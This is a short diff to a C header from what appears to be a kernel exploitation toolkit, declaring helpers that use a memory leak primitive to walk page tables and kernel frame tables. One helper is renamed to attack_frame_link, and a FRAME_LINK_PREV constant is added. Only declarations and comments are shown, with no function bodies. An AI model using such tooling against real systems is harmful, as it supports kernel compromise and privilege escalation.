@@ -62,9 +62,12 @@ static inline uint64_t attack_entry_frame(uint64_t entry) { return entry >> 12 &
 uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t address, uint64_t *place);
 /* The entry of the first 4 KiB page of user space that the root leads to; 0: there is none. */
 uint64_t attack_first_page(const struct bw_leak *leak, uint64_t root);
-/* Where the frame table has the frame behind a kernel address: 8 bytes, the upper half of which is,
- * of a pool's frame, the number of its area, and of a user's how many entries map it. */
-uint64_t attack_frame(const struct bw_leak *leak, uint64_t address);
+/*
+ * Where the kernel keeps the links of the frame behind an address of its own. Of a pool's frame
+ * they say which page of its area it is, in units of FRAME_LINK_PREV.
+ */
+#define FRAME_LINK_PREV (1ul << 29)
+uint64_t attack_frame_link(const struct bw_leak *leak, uint64_t address);
 
 /* ---- Sealed memory (attack_sealed.c) ---- */
 
